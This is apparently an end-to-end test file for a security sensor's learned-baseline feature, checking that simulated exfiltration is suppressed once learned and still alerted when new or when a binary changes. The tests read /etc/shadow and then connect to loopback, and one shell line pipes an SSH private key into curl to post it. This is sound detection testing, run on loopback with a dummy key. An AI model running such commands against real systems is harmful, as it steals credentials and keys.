#!/usr/bin/env python3
"""End-to-end tests of learned baselines (issue 5, docs/baseline.md): the real
`barbwire learn` and `barbwire run --baseline`, real processes, loopback only.

  baseline_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as its own test in
suite 'e2e'. They need root and a build with the sensor; otherwise they exit
77 (skip), or 1 when CI=true.

The learned binary is a copy of the python interpreter at <workspace>/tool:
its own path, the interpreter's hash until a case appends bytes to it. The
sensor runs with its built-in rules. Other activity on the host is learned
too, and alerts are filtered to the pids the test starts.

benign_learned_e2e_attacks_caught and benign_learned_family_attacks_caught
(issue 5's acceptance) learn over every workload of benign_test.py and then
run a whole attack suite, each attack checked by its own case's code, under
the learned baseline; see "the suites under a learned baseline" below.
"""
import json
import os
import shutil
import signal
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402
import benign_test as bt    # noqa: E402  the benign workloads
import e2e_test as et       # noqa: E402  the issue-3 attacks
import family_test as ft    # noqa: E402  the family and evasion attacks

BW = ""
ROOT = ""

SHADOW = "/etc/shadow"


def make_tool(ws):
    """A copy of the real interpreter at <ws>/tool; returns its realpath."""
    tool = ws.path("tool")
    shutil.copy2(h.PY_REAL, tool)
    os.chmod(tool, 0o755)
    return os.path.realpath(tool)


def exfil(sensor_or_none, lst, python=None):
    """An actor (python, or the copy `python`) reads /etc/shadow, then connects to `lst`.
    Returns the actor, after its connection was accepted."""
    code = h.read_snippet(SHADOW) + h.tcp_connect_snippet("127.0.0.1", lst.port)
    actor = h.Actor(code, python=python, new_session=True)
    rep = actor.run()
    local = int(rep.get("local_port", "0"))
    check(lst.heard_from(local), f"the listener never accepted the actor's connection from port {local}")
    return actor


def read_baseline(path):
    check(os.path.exists(path), f"learn wrote no baseline file {path}")
    with open(path) as f:
        text = f.read()
    try:
        doc = json.loads(text)
    except ValueError as e:
        raise h.Failure(f"baseline {path} is not JSON ({e}): {text[:300]!r}")
    check(doc.get("version") == 1 and isinstance(doc.get("entries"), list), f"baseline shape: {text[:300]!r}")
    return doc, text


def entries_of(doc, exe):
    return [e for e in doc["entries"] if e.get("exe") == exe]


def learn(ws, base, action, duration="10m", stop=True):
    """`barbwire learn --baseline base`; ready; action(); SIGINT (when `stop`). Returns the Learner."""
    learner = h.Learner(BW, base, duration=duration)
    try:
        learner.start().wait_ready()
        check(f"learning into {base}" in learner.stderr(), f"ready line should name the file:\n{learner.stderr()}")
        action()
        if stop:
            learner.stop_cleanly()
            check(learner.stdout_lines() == [], f"learn printed on stdout: {learner.stdout_lines()}")
            summary = learner.wait_stderr("barbwire: learned ", timeout=1)
            check(summary is not None, f"no 'learned ...' summary line:\n{learner.stderr()}")
            print(summary)
    except BaseException:
        learner.kill()
        raise
    return learner


def check_tool_entry(doc, tool, sha, port):
    mine = [e for e in entries_of(doc, tool) if e.get("port") == port]
    check(len(mine) == 1, f"expected one entry for {tool} to port {port}: {entries_of(doc, tool)}")
    e = mine[0]
    want = {"exe": tool, "sha256": sha, "reader_exe": tool, "reader_sha256": sha,
            "destination": "loopback", "protocol": "tcp", "port": port}
    got = {k: e.get(k) for k in want}
    check(got == want, f"entry {got} != {want}")
    # the category is whatever the built-in rules call /etc/shadow's
    check(isinstance(e.get("category"), str) and e["category"], f"entry category: {e}")
    check(isinstance(e.get("count"), int) and e["count"] >= 1, f"entry count: {e}")
    return e


def learn_tool(ws, lst, tool):
    """Learns the tool's exfil to `lst` into <ws>/baseline.json; returns its path."""
    base = ws.path("baseline.json")
    learn(ws, base, lambda: exfil(None, lst, python=tool))
    doc, _ = read_baseline(base)
    check_tool_entry(doc, tool, h.sha256_of(tool), lst.port)
    return base


def run_with(base, *extra):
    s = h.Sensor(BW, None, extra=("--baseline", base, *extra))
    s.start().wait_ready()
    check(f"baseline: {base}" in s.stderr(), f"ready line should name the baseline:\n{s.stderr()}")
    return s


# --------------------------------------------------------------------------- cases

def case_learned_is_quiet():
    """(a) learned: the tool's exfil to loopback is suppressed; the real python's still alerts."""
    h.require_root_and_sensor()
    ws, lst, sensor = h.Workspace(), h.TcpListener("127.0.0.1"), None
    try:
        tool = make_tool(ws)
        base = learn_tool(ws, lst, tool)
        sensor = run_with(base)
        quiet = exfil(sensor, lst, python=tool)
        loud = exfil(sensor, lst)  # the real interpreter: another path, never learned by this test
        got = sensor.wait_alert(loud.pid)
        check(len(got) == 1, f"the real python's exfil must alert: {got}\n{sensor.stderr()}")
        a = got[0]
        check(a.get("baseline") == "new", f"baseline field of a new correlation: {a}")
        check(a["process"]["exe"] == h.PY_REAL and a["file"]["path"] == SHADOW, f"alert: {a}")
        check(a["destination"]["port"] == lst.port, f"alert destination: {a}")
        # the real python's events came after the tool's: those are processed by now
        check(sensor.alerts(quiet.pid) == [], f"the learned tool alerted: {sensor.alerts(quiet.pid)}")
        sensor.stop_cleanly()
        summary = sensor.wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
        check(summary is not None and "suppressed" in summary, f"summary line:\n{sensor.stderr()}")
        seen = int(summary.split(": ", 2)[2].split(" seen")[0])
        check(seen >= 1, f"at least the tool's correlation was seen: {summary}")
        print(summary)

        # down-score mode: the file's points are withdrawn; bash's +2 alone is below the threshold
        sensor = run_with(base, "--baseline-mode", "downscore")
        quiet = exfil(sensor, lst, python=tool)
        loud = exfil(sensor, lst)
        check(len(sensor.wait_alert(loud.pid)) == 1, f"control alert under downscore:\n{sensor.stderr()}")
        check(sensor.alerts(quiet.pid) == [], f"downscored below the threshold, yet: {sensor.alerts(quiet.pid)}")
        sensor.stop_cleanly()
    finally:
        h.teardown(sensor, lst, ws)


def case_changed_binary_alerts():
    """(b) the same action by the learned tool after its hash changed is alerted, as a changed binary."""
    h.require_root_and_sensor()
    ws, lst, sensor = h.Workspace(), h.TcpListener("127.0.0.1"), None
    try:
        tool = make_tool(ws)
        old_sha = h.sha256_of(tool)
        base = learn_tool(ws, lst, tool)
        with open(tool, "ab") as f:
            f.write(b"\0barbwire-e2e: the binary changed\n")
        new_sha = h.sha256_of(tool)
        check(new_sha != old_sha, "appending bytes did not change the hash")
        sensor = run_with(base)
        actor = exfil(sensor, lst, python=tool)
        got = sensor.wait_alert(actor.pid)
        check(len(got) == 1, f"the changed tool's exfil must alert: {got}\n{sensor.stderr()}")
        a = got[0]
        check(a["process"]["exe"] == tool and a["process"]["sha256"] == new_sha, f"alert process: {a['process']}")
        check(a.get("baseline") == "changed binary", f"baseline field: {a}")
        want = f"baseline: {tool} changed (sha256 {new_sha[:16]}, learned {old_sha[:16]})"
        check(want in a["reasons"], f"reasons {a['reasons']} lack {want!r}")
        check(a["score"] == sum(p["points"] for p in a["score_breakdown"]), f"breakdown sums to the score: {a}")
        check(a["score"] >= 3, f"a changed binary keeps its score: {a}")
        sensor.stop_cleanly()
    finally:
        h.teardown(sensor, lst, ws)


def case_merge_and_sigkill():
    """(c) repeated learning merges into the file; a SIGKILL during learn leaves the old file intact."""
    h.require_root_and_sensor()
    ws = h.Workspace()
    lst1, lst2, lst3 = h.TcpListener("127.0.0.1"), h.TcpListener("127.0.0.1"), h.TcpListener("127.0.0.1")
    learner = None
    try:
        tool = make_tool(ws)
        sha = h.sha256_of(tool)
        base = learn_tool(ws, lst1, tool)
        doc1, _ = read_baseline(base)
        first = check_tool_entry(doc1, tool, sha, lst1.port)

        # second run: ends by itself after --duration; both ports are in the file, port 1 counted again
        learner = learn(ws, base, lambda: (exfil(None, lst2, python=tool), exfil(None, lst1, python=tool)),
                        duration="6s", stop=False)
        learner.proc.wait(60)
        learner.stop()
        check(learner.rc == 0, f"learn exit {learner.rc} after --duration:\n{learner.stderr()}")
        check(learner.wait_stderr("barbwire: learned ", timeout=1), f"no summary:\n{learner.stderr()}")
        learner = None
        doc2, text2 = read_baseline(base)
        check_tool_entry(doc2, tool, sha, lst2.port)
        again = check_tool_entry(doc2, tool, sha, lst1.port)
        check(again["count"] >= first["count"] + 1, f"merge adds counts: {first} then {again}")
        for e in doc1["entries"]:
            key = {k: v for k, v in e.items() if k != "count"}
            check(any({k: v for k, v in x.items() if k != "count"} == key for x in doc2["entries"]),
                  f"an entry of the first run was lost by the merge: {e}")

        # third run: SIGKILL while learning; the file is exactly the second run's, and no temp file is left
        learner = learn(ws, base, lambda: exfil(None, lst3, python=tool), stop=False)
        time.sleep(0.5)
        learner.proc.send_signal(signal.SIGKILL)
        learner.proc.wait(10)
        learner.kill()
        learner = None
        doc3, text3 = read_baseline(base)
        check(text3 == text2, "the baseline changed after a SIGKILL during learn")
        check(entries_of(doc3, tool) and not [e for e in doc3["entries"] if e.get("port") == lst3.port],
              f"the killed run's learning reached the file: {doc3}")
        left = [n for n in os.listdir(ws.dir) if n.startswith(".baseline.json.tmp")]
        check(left == [], f"temporary files left behind: {left}")
        # and the file is still one `run --baseline` accepts
        sensor = run_with(base)
        sensor.stop_cleanly()
    finally:
        if learner is not None:
            learner.kill()
        for l in (lst1, lst2, lst3):
            l.close()
        ws.cleanup()


def case_checkpoint_then_sigkill():
    """(issue 15) learn checkpoints: a SIGHUP merges what was learned so far into the
    file, atomically; a SIGKILL afterwards loses nothing learned before the SIGHUP.
    (Without checkpoints the whole run's learning was lost.)"""
    h.require_root_and_sensor()
    ws = h.Workspace()
    lst1, lst2 = h.TcpListener("127.0.0.1"), h.TcpListener("127.0.0.1")
    learner = None
    try:
        tool = make_tool(ws)
        sha = h.sha256_of(tool)
        base = ws.path("baseline.json")
        learner = learn(ws, base, lambda: exfil(None, lst1, python=tool), stop=False)
        time.sleep(1.0)  # the correlation is learned (the sensor took the connect)
        learner.proc.send_signal(signal.SIGHUP)
        line = learner.wait_stderr("barbwire: baseline checkpoint: ", timeout=10)
        check(line is not None, f"no checkpoint line after SIGHUP:\n{learner.stderr()}")
        print(line)
        exfil(None, lst2, python=tool)  # learned after the checkpoint: lost by the kill
        time.sleep(0.5)
        learner.proc.send_signal(signal.SIGKILL)
        learner.proc.wait(10)
        learner.kill()
        learner = None
        doc, _ = read_baseline(base)
        check_tool_entry(doc, tool, sha, lst1.port)
        check(not [e for e in entries_of(doc, tool) if e.get("port") == lst2.port],
              "what was learned after the checkpoint cannot be in the file")
        left = [n for n in os.listdir(ws.dir) if n.startswith(".baseline.json.tmp")]
        check(left == [], f"temporary files left behind: {left}")
        st = os.stat(base)
        check(st.st_mode & 0o077 == 0, f"the baseline file is mode {oct(st.st_mode & 0o777)}, not private")
    finally:
        if learner is not None:
            learner.kill()
        h.teardown(lst1, lst2, ws)


def case_bad_baseline_refused():
    """run --baseline with a missing or corrupt file, and learn into a corrupt one: one line, exit 2."""
    h.require_root_and_sensor()
    ws = h.Workspace()
    try:
        bad = h.write_file(ws.path("bad.json"), '{"version": 1, "entries": [{"exe": "x"}]}')
        for args in (["run", "--baseline", ws.path("missing.json")], ["run", "--baseline", bad],
                     ["learn", "--duration", "1m", "--baseline", bad]):
            s = h.Sensor(BW, None)
            s.args = [BW, *args]
            s.start()
            rc = s.proc.wait(60)
            s.stop()
            lines = [l for l in s.stderr_lines() if l.strip()]
            check(rc == 2 and len(lines) == 1 and lines[0].startswith("barbwire: "),
                  f"{args}: expected one error line and exit 2, got {rc}: {lines}")
            check(args[-1] in lines[0], f"{args}: the error should name the file: {lines[0]}")
        with open(bad) as f:
            check(f.read() == '{"version": 1, "entries": [{"exe": "x"}]}', "learn touched a corrupt baseline")
    finally:
        ws.cleanup()


# --------------------------------------------------------------------------- the suites under a learned baseline
#
# Issue 5: "learn over the benign suite, followed by run --baseline on the attack
# suite: all attacks are still caught". Both cases below learn with the built-in rules
# while every workload of benign_test.py runs (learn_benign_suite), then run the
# attack cases' own code (e2e_test.py's BUILTIN_VARIANTS, family_test.py's ATTACKS:
# h.Attack, set up and attack, then check once the sensor stopped) all under
# `barbwire record TRACE --baseline FILE` (record is run plus the trace some checks
# read), one sensor per rules file the attacks need.
#
# What the benign suite gives to learn: nothing. The built-in rules are tuned so that
# every sensitive-looking open of the suite is either context (libc's name-service
# files, ssh's known_hosts and authorized_keys: never a candidate, at any threshold) or
# trusted (ssh reading its key, sshd /etc/shadow: the category is skipped), so learning
# at threshold 0 finds no correlation in it; the learner's stats (-v) show that it saw
# those opens. So that the baseline is not empty and its quieting is shown in the same
# run as the attacks, learning also watches the host's own use of a secret (OwnUse:
# curl logs in with ~/.netrc, which the built-in rules alert on), and under the
# baseline that repeat must be quiet.

# The machine is not the server curl posts to: curl sending its own .netrc to the
# machine the file names is owner use (docs/rules.md), quiet without any baseline;
# to another server it is evidence the baseline must learn.
DUMMY_NETRC = "machine 192.0.2.1 login e2e password not-a-real-one\n"
DUMMY_KEY = "barbwire-e2e dummy key, not a real one\n"


def suites():
    """The other suites' modules, pointed at this run's binary and tree, their attacks
    set to the built-in rules."""
    for m in (bt, et, ft):
        m.BW, m.ROOT = BW, ROOT
    et.RULES = "builtin"
    ft.RULES = "builtin"


def benign_workloads():
    """One instance of every workload class of benign_test.py (subclasses of subclasses
    too). Each benign case but the attack control (attack_*) must be one of them, so
    that no benign case is left out of learning. A workload known to alert today
    (`alerts_today`, not registered in meson.build) is left out of learning, which
    would learn its alert and so no longer be the benign suite alone."""
    classes, todo = [], list(bt.Workload.__subclasses__())
    while todo:
        cls = todo.pop(0)
        classes.append(cls)
        todo += cls.__subclasses__()
    wls = [cls() for cls in classes]
    names = {w.name for w in wls}
    cases = {n[len("case_"):] for n in vars(bt) if n.startswith("case_")}
    missing = sorted(c for c in cases - names if not c.startswith("attack_"))
    check(not missing, f"benign cases without a Workload class, which learning cannot run: {missing}")
    left_out = [w.name for w in wls if getattr(w, "alerts_today", False)]
    if left_out:
        print(f"learning: left out (they alert today, see benign_test.py): {left_out}")
    return [w for w in wls if not getattr(w, "alerts_today", False)]


def category_of(pattern):
    """The built-in rules' category whose patterns include `pattern`."""
    cats = [c["category"] for c in h.builtin_rules_json(ROOT)["suspicious_files"] if pattern in c["patterns"]]
    check(len(cats) == 1, f"no one built-in category with the pattern {pattern!r}: {cats}")
    return cats[0]


class OwnUse:
    """The host's own use of a secret: curl logs in to a local HTTP server with the
    user's ~/.netrc (--netrc-file) and posts a line. Without a baseline the built-in
    rules alert on it (netrc is evidence, and curl is not trusted for it); learned, the
    baseline must quiet it. The same listener (so the same port) serves learning and
    the run under the baseline."""

    def __init__(self, ws, lst):
        self.curl = os.path.realpath(shutil.which("curl", path="/usr/bin:/bin") or "/usr/bin/curl")
        home = ws.path("home")
        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
        h.write_file(os.path.join(home, ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
        h.write_file(os.path.join(home, ".netrc"), DUMMY_NETRC, mode=0o600)
        self.home = os.path.realpath(home)
        self.env = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": self.home}
        self.lst = lst
        self.url = f"http://127.0.0.1:{lst.port}"
        self.runs = 0

    def run(self):
        """curl --netrc-file ~/.netrc -d own-use-N URL; returns the Shell, after the server
        got the post."""
        self.runs += 1
        body = f"own-use-{self.runs}"
        sh = h.Shell(f'curl -sS -f -o /dev/null --netrc-file "$HOME/.netrc" -d {body} {self.url}/up', env=self.env)
        sh.wait()
        check(self.lst.received(body.encode()), f"the server never got curl's post {body!r}: {self.lst.bodies()}")
        return sh

    def quiet_attack(self):
        """The learned own use again, under the baseline: no alert in its session."""
        def body(ws, sensor, _):
            sh = self.run()
            yield
            got = sensor.alerts_in_session(sh.leader)
            check(got == [], f"the learned own use (curl with ~/.netrc) alerted under the baseline: {got}")
        return h.Attack("learned_own_use_is_quiet", body)

    def learned_curl_attack(self):
        """A new use of the learned curl, to the learned port: cat ~/.ssh/id_rsa | curl
        --data-binary @-. Its alert must be "new"."""
        def body(ws, sensor, _):
            sh = h.Shell(f'cat "$HOME/.ssh/id_rsa" | curl -sS -f -o /dev/null --data-binary @- {self.url}/k',
                         env=self.env)
            sh.wait()
            check(self.lst.received(DUMMY_KEY.encode()), "the pipeline's upload never arrived")
            ft.settle(sensor, sh.leader)
            yield
            got = sensor.alerts_in_session(sh.leader)
            check(len(got) == 1, f"the key piped into the learned curl: expected one alert, got {got}")
            a = got[0]
            check(a.get("baseline") == "new" and a["process"]["exe"] == self.curl
                  and a["destination"]["port"] == self.lst.port
                  and a["file"]["path"] == os.path.join(self.home, ".ssh", "id_rsa"),
                  f"the key piped into the learned curl: {json.dumps(a, sort_keys=True)}")
        return h.Attack("learned_curl_new_secret", body)


def learner_stats(learner):
    """The correlator's stats JSON that `learn -v` prints when it stops."""
    line = learner.wait_stderr("barbwire: stats: ", timeout=1)
    check(line is not None, f"learn -v printed no stats line:\n{learner.stderr()}")
    return json.loads(line[len("barbwire: stats: "):])


def learn_benign_suite(ws, own):
    """`barbwire learn -v --baseline <ws>/baseline.json` (built-in rules) while every
    benign workload runs, each in a workspace of its own prepared before learning starts
    (as benign_test.run_benign does), then the own use; SIGINT. Returns (path, entries)."""
    wls = benign_workloads()
    for wl in wls:
        wl.require()
    spaces = []
    try:
        for wl in wls:
            wws = h.Workspace()
            spaces.append(wws)
            home = wws.path("home")
            os.makedirs(home, mode=0o755)
            os.makedirs(wws.path("out"))
            wl.prepare(wws, os.path.realpath(home))
        base = ws.path("baseline.json")
        # --duration bounds learning; the suite takes well under a minute, and SIGINT ends it
        learner = h.Learner(BW, base, duration="5m", extra=("-v",))
        try:
            learner.start().wait_ready()
            check(f"learning into {base}" in learner.stderr(), f"ready line should name the file:\n{learner.stderr()}")
            t0 = time.monotonic()
            for wl, wws in zip(wls, spaces):
                t = time.monotonic()
                c = bt.Ctx(wws, os.path.realpath(wws.path("home")))
                try:
                    wl.run(c)
                finally:
                    c.stop_servers()
                print(f"learning: benign {wl.name} ran ({time.monotonic() - t:.1f} s)")
            own.run()
            print(f"learning: own use ran; {time.monotonic() - t0:.1f} s in all")
            check(learner.running(), f"learn ended by itself before the suite was over:\n{learner.stderr()}")
            learner.stop_cleanly()
        finally:
            learner.kill()
    finally:
        for wws in spaces:
            wws.cleanup()
    check(learner.stdout_lines() == [], f"learn printed on stdout: {learner.stdout_lines()}")
    summary = learner.wait_stderr("barbwire: learned ", timeout=1)
    check(summary is not None, f"no 'learned ...' summary line:\n{learner.stderr()}")
    print(summary)
    st = learner_stats(learner)
    print(f"learning saw: {st.get('open_events')} opens, {st.get('sensitive_opens')} sensitive, "
          f"{st.get('context_opens')} context, {st.get('trusted_opens')} trusted; {st.get('net_events')} "
          f"network events, {st.get('uncorrelated_net')} uncorrelated")
    # the suite's name-service reads and ssh's and sshd's reads were seen: context and trusted
    check(st.get("context_opens", 0) >= 1 and st.get("trusted_opens", 0) >= 1,
          f"learning saw no context or no trusted open, although the benign suite makes both: {st}")
    doc, _ = read_baseline(base)
    entries = doc["entries"]
    for e in entries:
        print(f"learned: {e['exe']} (reader {e['reader_exe']}) {e['category']!r} -> {e['destination']} "
              f"{e['protocol']}/{e['port']} x{e.get('count', 1)}")
    check(entries, "learning over the benign suite and the own use learned nothing")
    want = {"exe": own.curl, "reader_exe": own.curl, "category": category_of("/.netrc"),
            "destination": "loopback", "protocol": "tcp", "port": own.lst.port}
    mine = [e for e in entries if {k: e.get(k) for k in want} == want]
    check(len(mine) == 1, f"the baseline has no entry for the own use {want}: {entries}")
    return base, entries


def attacks_caught(attacks, base):
    """The attacks together under `record --baseline base` (h.run_attacks_together); each
    must pass its own checks, and every alert printed must say it is new to the
    baseline (or from a changed binary): nothing seen while learning was printed."""
    results, groups = h.run_attacks_together(BW, attacks, extra=("--baseline", base))
    for text, sensor, names in groups:
        what = "built-in rules" if text is None else "the rules of " + ", ".join(names)
        check(f"baseline: {base}" in sensor.stderr(), f"{what}: ready line should name the baseline:\n"
                                                      f"{sensor.stderr()}")
        alerts = [a for a in sensor.alerts() if a.get("type") != "summary"]
        seen = [a for a in alerts if a.get("baseline") not in ("new", "changed binary")]
        check(seen == [], f"{what}: alerts printed under --baseline without a new or changed verdict: {seen}")
        line = sensor.wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
        check(line is not None, f"{what}: no baseline summary line:\n{sensor.stderr()}")
        print(f"{what}: {len(alerts)} alert(s); {line}")
    bad = [(n, e) for n, e in results if e is not None]
    for n, e in results:
        print(f"{'ok  ' if e is None else 'FAIL'} {n}" + ("" if e is None else f": {e}"))
    check(not bad, f"{len(bad)} of {len(results)} attack(s) failed under the learned baseline:\n"
                   + "\n".join(f"{n}: {e}" for n, e in bad))
    return groups


def learned_suite_case(attack_factories):
    """Learn over the benign suite and the own use, then the own use again (quiet), the
    learned curl sending a new secret (new) and `attack_factories`' attacks, all under
    the baseline."""
    h.require_root_and_sensor()
    curl = shutil.which("curl", path="/usr/bin:/bin")
    if curl is None:
        h.skip_or_fail("curl is not installed (apt-get install curl)")
    suites()
    attacks = [f() for f in attack_factories]          # before learning: a missing program skips now
    ws, lst = h.Workspace(), h.HttpListener("127.0.0.1")
    try:
        own = OwnUse(ws, lst)
        base, _ = learn_benign_suite(ws, own)
        groups = attacks_caught([own.quiet_attack(), own.learned_curl_attack(), *attacks], base)
        line = groups[0][1].wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
        seen = int(line.split(": ", 2)[2].split(" seen")[0])
        check(seen >= 1, f"the own use was learned, yet nothing was seen under the baseline: {line}")
    finally:
        lst.close()
        ws.cleanup()


def case_benign_learned_e2e_attacks_caught():
    """Issue 5: learn (built-in rules) over every benign workload, then under run
    --baseline every attack of e2e_test.py's BUILTIN_VARIANTS still alerts, each
    checked by its own code. udp_sendto_53 runs under its own rules file (the built-in
    rules less their allowlisting of port 53), with the same baseline. record_replay
    replays the shared trace with the same rules and baseline."""
    learned_suite_case([getattr(et, "attack_" + n) for n in et.BUILTIN_VARIANTS])


def case_benign_learned_family_attacks_caught():
    """Issue 5: learn (built-in rules) over every benign workload, then under run
    --baseline every alerting case of family_test.py (ATTACKS) still alerts, each
    checked by its own code. hardlink_ssh_key runs under its own rules file (the
    built-in rules plus the key's path), with the same baseline; parent_named_systemd
    and parent_prctl_systemd run under the built-in rules (whose legit_parents name
    systemd too) instead of the seed's file."""
    learned_suite_case([getattr(ft, "attack_" + n) for n in ft.ATTACKS])


# --------------------------------------------------------------------------- driver

if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "baseline_test"))
